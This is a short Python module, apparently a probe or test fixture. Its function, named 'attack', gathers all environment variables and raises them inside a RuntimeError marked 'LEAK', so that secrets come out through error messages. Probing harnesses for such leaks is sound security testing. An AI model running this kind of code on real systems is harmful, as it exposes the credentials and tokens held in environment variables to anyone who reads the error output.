"""Reports every environment variable it can see in its error message."""

import os


def _report(found):
    raise RuntimeError("LEAK " + repr(found)[:1500])


def attack(*args, **kwargs):
    _report(dict(os.environ))
